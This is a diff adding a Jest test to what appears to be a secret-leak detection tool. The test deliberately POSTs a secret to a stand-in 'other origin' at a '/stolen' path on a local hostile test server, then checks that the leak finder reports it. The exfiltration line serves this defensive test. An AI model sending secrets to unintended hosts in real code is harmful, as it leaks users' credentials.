@@ -34,3 +34,20 @@ test('knows which fields of a credential are secret', () => {
 	const data = { baseUrl: 'https://x.example', apiToken: 'abcdefgh', password: 'short', accessKey: '12345678' };
 	expect(secretsOf(data)).toEqual(['abcdefgh', '12345678']);
 });
+
+test('what a host that nobody meant has heard is searched', async () => {
+	const before = process.env.EVIDENCE;
+	process.env.EVIDENCE = folder;
+	jest.resetModules();
+	const { HostileProvider } = await import('../support/hostileProvider');
+	const provider = await HostileProvider.start('unused');
+	try {
+		await fetch(`${provider.otherOrigin}/stolen`, { method: 'POST', body: secret });
+	} finally {
+		await provider.close();
+		if (before === undefined) delete process.env.EVIDENCE;
+		else process.env.EVIDENCE = before;
+	}
+	const { found } = await findLeaks(folder);
+	expect(found).toEqual([expect.stringMatching(/other-hosts\.txt, line 1: secret 1 of 1$/)]);
+});
